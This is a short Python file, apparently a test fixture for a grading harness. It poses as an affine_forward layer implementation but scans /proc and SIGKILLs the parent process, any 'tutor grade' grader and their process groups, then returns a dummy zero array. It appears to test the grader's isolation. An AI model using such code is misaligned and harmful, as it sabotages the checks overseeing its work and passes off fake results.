# target: layers.affine_forward | expect: mismatch crash | needs: namespaces
"""Kill the grader: the parent process, its process group, and any `tutor grade` it can see."""
import os
import signal

import numpy as np


def affine_forward(x, w, b):
    victims = {os.getppid()}
    try:
        for pid in os.listdir("/proc"):
            if pid.isdigit():
                try:
                    with open(f"/proc/{pid}/cmdline", "rb") as f:
                        cmd = f.read()
                except OSError:
                    continue
                if (b"tutor" in cmd and b"grade" in cmd) or b"zygote" in cmd:
                    victims.add(int(pid))
    except OSError:
        pass
    victims.discard(os.getpid())
    victims.discard(0)
    victims.discard(1)
    for pid in victims:
        for action in (lambda: os.kill(pid, signal.SIGKILL), lambda: os.killpg(os.getpgid(pid), signal.SIGKILL)):
            try:
                action()
            except OSError:
                pass
    return np.zeros((x.shape[0], w.shape[1])), None
